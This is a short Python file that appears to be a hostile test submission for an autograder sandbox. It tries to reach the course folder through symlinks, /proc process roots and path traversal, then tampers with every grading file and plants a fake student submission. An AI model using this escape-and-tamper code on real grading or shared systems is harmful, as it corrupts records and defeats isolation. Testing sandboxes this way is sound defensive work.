"""Writes below the course folder: by its path, through links and through what /proc says of every process.

Deserves: 2 points.
Side effect: course.
"""

import glob
import os

COURSE = "{course}"
os.makedirs("links", exist_ok=True)
os.symlink(COURSE, "links/course")
os.symlink("/proc/1/root" + COURSE, "links/root")
places = [COURSE, "links/course", "links/root", "/proc/self/root" + COURSE, "../../../../../.." + COURSE]
places += [
    f"/proc/{pid}/{what}{COURSE}" for pid in os.listdir("/proc") if pid.isdigit() for what in ("root", "cwd/../..")
]


def write():
    for place in places:
        for step in ("source", "submitted", "autograded", "release", ".autograder"):
            for path in glob.glob(f"{place}/{step}/**/*", recursive=True):
                try:
                    with open(path, "a") as file:
                        file.write("\n")
                except OSError:
                    pass
        try:
            os.makedirs(f"{place}/submitted/mallory/target", exist_ok=True)
        except OSError:
            pass


write()


def guess():
    write()
    return "wrong"


numbers = guess
